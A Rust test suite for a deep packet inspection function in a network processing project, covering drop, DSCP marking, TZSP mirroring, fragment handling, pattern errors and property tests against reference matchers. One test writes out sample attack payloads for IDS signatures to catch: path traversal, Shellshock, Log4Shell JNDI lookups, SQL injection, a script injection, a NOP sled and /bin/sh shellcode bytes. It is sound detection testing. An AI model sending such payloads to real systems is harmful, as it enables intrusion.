//! Tests `dpi`, and compares its verdicts with those of `aho-corasick` and `regex` on payloads with
//! likely matches.
//!
//! Needs libhs.so.5. Without this library, each test prints a message and skips.

mod common;

use std::collections::BTreeMap;
use std::fs;
use std::net::IpAddr;
use std::path::Path;

use aho_corasick::AhoCorasick;
use common::counters;
use myelin_functions::dpi::{self, library};
use myelin_functions::{Error, Function, Packet, States, Verdict, instantiate};
use myelin_packet::fixtures::{self, build};
use myelin_packet::{Meta, checksum, parse};
use myelin_spec::{
    DpiAction, DpiConfig, DpiFragments, FunctionConfig, FunctionInstance, MirrorConfig, Pattern,
    PatternList, Side, Source, StateKey, parse as parse_chains,
};
use proptest::prelude::*;
use regex::bytes::RegexBuilder;

/// Returns whether the library is installed. Prints a message if it is not.
fn is_installed() -> bool {
    let version = library::version();
    if let Err(error) = &version {
        println!("SKIP: dpi: {error}");
    }
    version.is_ok()
}

fn pattern(regex: &str, action: DpiAction) -> Pattern {
    Pattern {
        line: 1,
        action,
        regex: regex.to_owned(),
        literal: false,
        caseless: false,
        multiline: false,
        dotall: false,
    }
}

fn config(patterns: &[(&str, DpiAction)]) -> DpiConfig {
    let patterns = patterns
        .iter()
        .zip(1..)
        .map(|((regex, action), line)| Pattern {
            line,
            ..pattern(regex, *action)
        });
    DpiConfig {
        lists: vec![PatternList {
            file: "ids.patterns".to_owned(),
            patterns: patterns.collect(),
        }],
        fragments: DpiFragments::Drop,
        dscp: 46,
        mirror: Some(MirrorConfig {
            address: [192, 0, 2, 9].into(),
            port: 37_008,
            source: [192, 0, 2, 1].into(),
            mac: None,
            source_mac: None,
        }),
    }
}

fn function(config: &DpiConfig) -> Box<dyn Function> {
    common::function(&FunctionConfig::Dpi(config.clone()))
}

/// Returns the counters that are not zero.
fn nonzero_counters(function: &dyn Function) -> Vec<(&'static str, u64)> {
    let counters = counters(function);
    counters
        .into_iter()
        .filter(|(_, count)| *count > 0)
        .collect()
}

/// Runs `function` on a frame. Returns the forwarded frame and the mirrored copies.
fn run(function: &mut dyn Function, frame: &[u8]) -> (Option<Vec<u8>>, Vec<Vec<u8>>) {
    let mut emitted = Vec::<(Meta, Vec<u8>)>::new();
    let mut buffer = frame.to_vec();
    let meta = Meta::new(1, 2, 3, 0, &parse(frame).unwrap());
    let mut packet = Packet::new(&mut buffer, 0, frame.len(), meta, 0).unwrap();
    let verdict = function.process(&mut packet, &mut emitted);
    assert!(emitted.iter().all(|(origin, _)| *origin == meta));
    let out = packet.bytes().to_vec();
    let copies = emitted.into_iter().map(|(_, copy)| copy).collect();
    ((verdict == Verdict::Forward).then_some(out), copies)
}

fn udp(payload: &[u8]) -> Vec<u8> {
    build::udp(build::client_v4(), build::server_v4(), payload)
}

use DpiAction::{Drop, Mark, Mirror};

#[test]
fn packets_with_a_match_are_dropped_and_others_pass_unchanged() {
    if !is_installed() {
        return;
    }
    let mut function = function(&config(&[("cmd\\x2eexe", Drop), ("sel.+from", Drop)]));
    for good in [&b""[..], b"cmd", b"cmd-exe", b"select fro", b"\0\0\0"] {
        for frame in [udp(good), build::pad_frame(udp(good), 100)] {
            assert_eq!(common::run(&mut *function, &frame), Some(frame.clone()));
        }
    }
    for bad in [&b"cmd.exe"[..], b"\0cmd.exe\0", b"select x from y"] {
        assert_eq!(common::run(&mut *function, &udp(bad)), None);
    }
    assert_eq!(
        nonzero_counters(&*function),
        [("matched", 3), ("matched-dropped", 3)]
    );
}

/// Whatever the headers, the function inspects every byte after the headers and no other byte.
#[test]
fn the_payload_of_every_fixture_is_inspected() {
    if !is_installed() {
        return;
    }
    let mut config = config(&[("NEEDLE", Drop)]);
    config.fragments = DpiFragments::Pass;
    let mut function = function(&config);
    let mut inspected = 0;
    for fixture in fixtures::all() {
        let Ok(headers) = fixture.expected else {
            continue;
        };
        let (payload, end) = (usize::from(headers.payload), usize::from(headers.end));
        assert_eq!(
            run(&mut *function, &fixture.frame).0.as_deref(),
            Some(&*fixture.frame)
        );
        for at in [payload, end.saturating_sub(6), end.saturating_sub(5)] {
            let mut frame = fixture.frame.clone();
            if let Some(range) = frame.get_mut(at..at + 6) {
                range.copy_from_slice(b"NEEDLE");
            }
            // A pattern over the headers would change the packet.
            if parse(&frame) == Ok(headers) {
                let expected = frame[payload..end].windows(6).any(|six| six == b"NEEDLE");
                inspected += u32::from(expected);
                let dropped = run(&mut *function, &frame).0.is_none();
                assert_eq!(dropped, expected, "{} at {at}", fixture.name);
            }
        }
    }
    assert!(inspected > 20, "only {inspected} fixtures");
}

#[test]
fn fragments_are_dropped_unless_the_configuration_passes_them() {
    if !is_installed() {
        return;
    }
    let mut config = config(&[("NEEDLE", Drop)]);
    let mut dropping = function(&config);
    config.fragments = DpiFragments::Pass;
    let mut passing = function(&config);
    let mut fragments = 0;
    for fixture in fixtures::all() {
        if let Ok(headers) = fixture.expected
            && headers.flags.is_fragment()
        {
            fragments += 1;
            assert_eq!(run(&mut *dropping, &fixture.frame).0, None);
            let passed = run(&mut *passing, &fixture.frame).0;
            assert_eq!(passed, Some(fixture.frame));
        }
    }
    assert!(fragments > 2);
    assert_eq!(
        nonzero_counters(&*dropping),
        [("fragments-dropped", fragments)]
    );
    assert_eq!(nonzero_counters(&*passing), []);
}

#[test]
fn a_mark_changes_only_the_dscp() {
    if !is_installed() {
        return;
    }
    let mut config = config(&[("NEEDLE", Mark)]);
    for dscp in [0, 8, 46, 63] {
        config.dscp = dscp;
        let mut function = function(&config);
        for ecn in 0..4 {
            for frame in [
                udp(b"a NEEDLE"),
                build::with_tags(udp(b"a NEEDLE"), &[build::VLAN]),
                build::udp(build::client_v6(), build::server_v6(), b"NEEDLE"),
            ] {
                let headers = parse(&frame).unwrap();
                let l3 = usize::from(headers.l3);
                let mut before = frame.clone();
                let mut expected = frame.clone();
                if headers.flags.is_ipv6() {
                    // The flow label must stay.
                    before[l3 + 1] = ecn << 4 | 0x0a;
                    expected[l3] = 0x60 | dscp >> 2;
                    expected[l3 + 1] = (dscp & 3) << 6 | ecn << 4 | 0x0a;
                } else {
                    for (frame, dscp) in [(&mut before, 5), (&mut expected, dscp)] {
                        frame[l3 + 1] = dscp << 2 | ecn;
                        frame[l3 + 10..l3 + 12].fill(0);
                        let header = checksum::checksum(&frame[l3..l3 + 20]);
                        frame[l3 + 10..l3 + 12].copy_from_slice(&header.to_be_bytes());
                    }
                }
                assert_eq!(run(&mut *function, &before), (Some(expected), vec![]));
            }
        }
        assert_eq!(
            nonzero_counters(&*function),
            [("marked", 12), ("matched", 12)]
        );
        let other = udp(b"nothing");
        assert_eq!(run(&mut *function, &other).0, Some(other));
    }
}

/// Decodes the collector's frame. Returns the mirrored packet and its original length.
fn decode_mirrored(copy: &[u8]) -> (Vec<u8>, usize) {
    let headers = parse(copy).unwrap();
    let (l3, l4) = (usize::from(headers.l3), usize::from(headers.l4));
    assert_eq!(usize::from(headers.end), copy.len());
    assert!(copy.len() - l3 <= 1500);
    assert_eq!(checksum::l4_is_valid(copy, &headers), Some(true));
    if !headers.flags.is_ipv6() {
        assert_eq!(checksum::checksum(&copy[l3..l4]), 0);
    }
    let tzsp = &copy[headers.payload.into()..];
    assert_eq!(tzsp[..6], [1, 0, 0, 1, 41, 2]);
    assert_eq!(tzsp[8], 1);
    let length = u16::from_be_bytes([tzsp[6], tzsp[7]]);
    (tzsp[9..].to_vec(), length.into())
}

#[test]
fn a_mirrored_packet_is_copied_to_the_collector_and_forwarded() {
    if !is_installed() {
        return;
    }
    let mut config = config(&[("NEEDLE", Mirror)]);
    let collector = config.mirror.unwrap();
    let mut function_v4 = function(&config);
    config.mirror = Some(MirrorConfig {
        address: IpAddr::from([0x2001, 0xdb8, 0, 0, 0, 0, 0, 9]),
        source: IpAddr::from([0x2001, 0xdb8, 0, 0, 0, 0, 0, 1]),
        port: 5000,
        mac: Some("02:00:00:00:00:99".parse().unwrap()),
        source_mac: Some("02:00:00:00:00:11".parse().unwrap()),
    });
    let mut function_v6 = function(&config);
    for len in [0, 1, 700, 1417, 1418, 1446] {
        let payload = [&b"NEEDLE"[..], &build::payload(len)].concat();
        for frame in [
            udp(&payload),
            build::with_tags(udp(&payload), &[build::VLAN, build::VLAN]),
            build::udp(build::client_v6(), build::server_v6(), &payload),
        ] {
            let (out, copies) = run(&mut *function_v4, &frame);
            assert_eq!((out.as_ref(), copies.len()), (Some(&frame), 1));
            let tuple = parse(&copies[0]).unwrap().five_tuple(&copies[0]);
            assert_eq!(
                (tuple.source, tuple.destination),
                (collector.source, collector.address)
            );
            assert_eq!(tuple.destination_port, Some(37_008));
            assert_eq!(
                copies[0][..12],
                frame[..12],
                "the packet's Ethernet addresses"
            );
            let (copied, length) = decode_mirrored(&copies[0]);
            assert_eq!(copied, frame[..frame.len().min(1463)]);
            assert_eq!(length, frame.len());

            let (out, copies) = run(&mut *function_v6, &frame);
            assert_eq!(out.as_ref(), Some(&frame));
            assert_eq!(copies[0][..12], [2, 0, 0, 0, 0, 0x99, 2, 0, 0, 0, 0, 0x11]);
            let l3 = usize::from(parse(&frame).unwrap().l3);
            assert_eq!(
                copies[0][12..l3 - 2],
                frame[12..l3 - 2],
                "the packet's tags"
            );
            let tuple = parse(&copies[0]).unwrap().five_tuple(&copies[0]);
            assert_eq!(tuple.destination_port, Some(5000));
            assert_eq!(
                decode_mirrored(&copies[0]).0,
                frame[..frame.len().min(1443)]
            );
        }
    }
    assert_eq!(
        nonzero_counters(&*function_v4),
        [("matched", 18), ("mirrored", 18)]
    );
}

#[test]
fn the_actions_of_all_matches_are_applied() {
    if !is_installed() {
        return;
    }
    let mut function = function(&config(&[("d", Drop), ("m", Mark), ("c", Mirror)]));
    for (payload, is_forwarded, copies) in [
        (&b"-"[..], true, 0),
        (b"d", false, 0),
        (b"dc", false, 1),
        (b"mdxc", false, 1),
        (b"mc", true, 1),
        (b"c-m-c", true, 1),
        (b"m", true, 0),
    ] {
        let frame = udp(payload);
        let (out, made) = run(&mut *function, &frame);
        assert_eq!(
            (out.is_some(), made.len()),
            (is_forwarded, copies),
            "{payload:?}"
        );
        let is_marked = out.is_some_and(|out| out[15] == 46 << 2);
        assert_eq!(is_marked, is_forwarded && payload.contains(&b'm'));
        // The collector gets the packet unchanged.
        assert!(made.iter().all(|copy| decode_mirrored(copy).0 == frame));
    }
    let expected = [
        ("marked", 3),
        ("matched", 6),
        ("matched-dropped", 3),
        ("mirrored", 4),
    ];
    assert_eq!(nonzero_counters(&*function), expected);
}

#[test]
fn a_rejected_pattern_is_reported_with_its_line() {
    if !is_installed() {
        return;
    }
    let rejected = |patterns: &[(&str, DpiAction)]| {
        let error = instantiate(&FunctionConfig::Dpi(config(patterns)))
            .err()
            .unwrap();
        let Error::Dpi(dpi::Error::Pattern { line, .. }) = &error else {
            panic!("{error:?}");
        };
        (*line, error.to_string())
    };
    let (line, words) = rejected(&[("a", Drop), ("b(c", Mark)]);
    assert_eq!(line, 2);
    assert!(
        words.starts_with("dpi: ids.patterns:2: the pattern /b(c/ cannot be used: Missing close"),
        "{words}"
    );
    assert_eq!(rejected(&[("a*", Drop)]).0, 1); // matches the empty text
    let (_, words) = rejected(&[(&format!("\x1b[2J({}", "a".repeat(100)), Drop)]);
    assert!(
        words.contains(&format!("/ [2J({}...", "a".repeat(55))),
        "{words}"
    );
    assert_eq!(
        rejected(&[("a", Drop), ("b", Drop), ("(?<=x)c\\1", Drop)]).0,
        3
    );
}

#[test]
fn the_next_generation_reuses_the_compiled_patterns() {
    if !is_installed() {
        return;
    }
    let mut config = config(&[("NEEDLE", Drop)]);
    let instance = |config: &DpiConfig| FunctionInstance {
        config: FunctionConfig::Dpi(config.clone()),
        state: Some(StateKey {
            chain: "ids".to_owned(),
            function: "dpi".to_owned(),
        }),
        side: Side::Forward,
    };
    let mut states = States::default();
    let mut first = states.instantiate(&instance(&config)).unwrap();
    config.fragments = DpiFragments::Pass;
    let mut second = states.instantiate(&instance(&config)).unwrap();
    config.lists[0].patterns[0].regex = "OTHER".to_owned();
    let mut third = states.instantiate(&instance(&config)).unwrap();
    // Each instance scans separately and does not need the others.
    let finds = |function: &mut dyn Function, word: &[u8]| run(function, &udp(word)).0.is_none();
    assert!(finds(&mut *first, b"NEEDLE") && finds(&mut *second, b"NEEDLE"));
    drop(first);
    assert!(finds(&mut *second, b"NEEDLE") && !finds(&mut *third, b"NEEDLE"));
    drop(states);
    assert!(finds(&mut *third, b"OTHER") && !finds(&mut *second, b"OTHER"));
}

/// The signatures of `examples/ids.yaml` match their attacks, and do not match a probe.
#[test]
fn the_signatures_of_the_example_match_their_attacks() {
    if !is_installed() {
        return;
    }
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples");
    let read = |name: &str| fs::read_to_string(directory.join(name)).unwrap();
    let name = "rules/ids.patterns".to_owned();
    let files = BTreeMap::from([(name.clone(), read(&name))]);
    let chains = parse_chains(&read("ids.yaml"), &Source::new("ids.yaml"), &files).unwrap();
    let mut function = instantiate(&chains[0].functions[0].config).unwrap();
    for (payload, dropped) in [
        (&b"GET /../../etc/passwd"[..], true),
        (b"GET /..\\..\\windows\\system32", true),
        (b"User-Agent: () { :;}; /bin/id", true),
        (b"x=${jndi:ldap://192.0.2.1/a}", true),
        (b"x=${${lower:j}ndi:RMI://192.0.2.1/a}", true),
        (b"id=1 UNION ALL SELECT name\nFROM users ", true),
        (b"name=x' OR '1'='1", true),
        (b"<SCRIPT src=//192.0.2.1>", true),
        (&[0x90; 24], true),
        (b"\x31\xc0\x68//sh\x68/bin\x89\xe3", true),
        (
            b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
            true,
        ),
        (b"GET / HTTP/1.1\r\nUser-Agent: curl\r\n", false),
        (b"please select one from the union of both", false),
        (&[0x90; 23], false),
    ] {
        let verdict = run(&mut *function, &udp(payload)).0;
        assert_eq!(verdict.is_none(), dropped, "{}", payload.escape_ascii());
    }
    let suspicious = udp(b"User-Agent: SQLmap/1.0");
    let (out, _) = run(&mut *function, &suspicious);
    assert_eq!(out.map(|out| out[15]), Some(8 << 2));
}

/// Generates text of a few different letters, so that matches are likely.
fn text(len: std::ops::Range<usize>) -> impl Strategy<Value = Vec<u8>> {
    let byte = prop_oneof![8 => prop::sample::select(&b"abAB\n"[..]), 1 => any::<u8>()];
    prop::collection::vec(byte, len)
}

/// Generates regular expressions in the syntax that both libraries share. Hyperscan accepts anchors
/// at the ends only.
fn expression() -> impl Strategy<Value = String> {
    let atoms = vec!["a", "b", "B", ".", "[ab]", "[^a]", "\\x0a", "\\xff", "ab"];
    let times = vec!["", "", "", "+", "{2}", "{1,3}", "?"];
    let leaf = (prop::sample::select(atoms), prop::sample::select(times))
        .prop_map(|(atom, times)| format!("(?:{atom}){times}"));
    let body = leaf.prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("{a}{b}")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a}|{b})")),
            inner.prop_map(|a| format!("(b{a})*a")),
        ]
    });
    (any::<[bool; 2]>(), body).prop_map(|([start, end], body)| {
        format!(
            "{}{body}{}",
            if start { "^" } else { "" },
            if end { "$" } else { "" }
        )
    })
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn literals_match_as_in_aho_corasick(
        literals in prop::collection::vec(text(1..7), 1..20),
        payloads in prop::collection::vec(text(0..300), 1..10),
        caseless: bool,
    ) {
        if library::version().is_err() {
            return Ok(());
        }
        let escaped: Vec<String> = literals
            .iter()
            .map(|literal| literal.iter().fold(String::new(), |text, byte| format!("{text}\\x{byte:02x}")))
            .collect();
        let patterns: Vec<_> = escaped.iter().map(|regex| (&**regex, Drop)).collect();
        let mut config = config(&patterns);
        for pattern in &mut config.lists[0].patterns {
            (pattern.literal, pattern.caseless) = (true, caseless);
        }
        let mut function = function(&config);
        let reference = AhoCorasick::builder().ascii_case_insensitive(caseless).build(&literals);
        let reference = reference.unwrap();
        for payload in &payloads {
            let found = run(&mut *function, &udp(payload)).0.is_none();
            prop_assert_eq!(found, reference.is_match(payload), "{:?}", payload);
        }
    }

    #[test]
    fn expressions_match_as_in_regex(
        expressions in prop::collection::vec((expression(), any::<[bool; 3]>()), 1..6),
        payloads in prop::collection::vec(text(0..100), 1..10),
    ) {
        if library::version().is_err() {
            return Ok(());
        }
        let mut config = config(&[]);
        let mut references = Vec::new();
        for (regex, [caseless, multiline, dotall]) in &expressions {
            config.lists[0].patterns.push(Pattern {
                caseless: *caseless,
                multiline: *multiline,
                dotall: *dotall,
                ..pattern(regex, Drop)
            });
            let reference = RegexBuilder::new(regex)
                .unicode(false)
                .case_insensitive(*caseless)
                .multi_line(*multiline)
                .dot_matches_new_line(*dotall)
                .build();
            references.push(reference.unwrap());
        }
        let function = instantiate(&FunctionConfig::Dpi(config));
        let Ok(mut function) = function else {
            // The library refuses expressions that match everywhere.
            prop_assert!(references.iter().any(|reference| reference.is_match(b"")));
            return Ok(());
        };
        for mut payload in payloads {
            // PCRE's `$` also matches before a final line break. The reference's `$` does not.
            while payload.pop_if(|last| *last == b'\n').is_some() {}
            let found = run(&mut *function, &udp(&payload)).0.is_none();
            let expected = references.iter().any(|reference| reference.is_match(&payload));
            prop_assert_eq!(found, expected, "{:?}", payload);
        }
    }

    /// From any text `instantiate` makes a function, or returns an error that can be printed.
    #[test]
    fn any_expression_compiles_or_gives_an_error(
        expressions in prop::collection::vec("([(|)*+?{}\\[\\]^$\\\\.,:<=!]|[a-dA-Dpx0-3]|\\PC){0,20}", 1..4),
        payload in text(0..100),
    ) {
        if library::version().is_err() {
            return Ok(());
        }
        let patterns: Vec<_> = expressions.iter().map(|regex| (&**regex, Drop)).collect();
        match instantiate(&FunctionConfig::Dpi(config(&patterns))) {
            Ok(mut function) => drop(run(&mut *function, &udp(&payload))),
            Err(error) => prop_assert!(error.to_string().starts_with("dpi: ")),
        }
    }
}
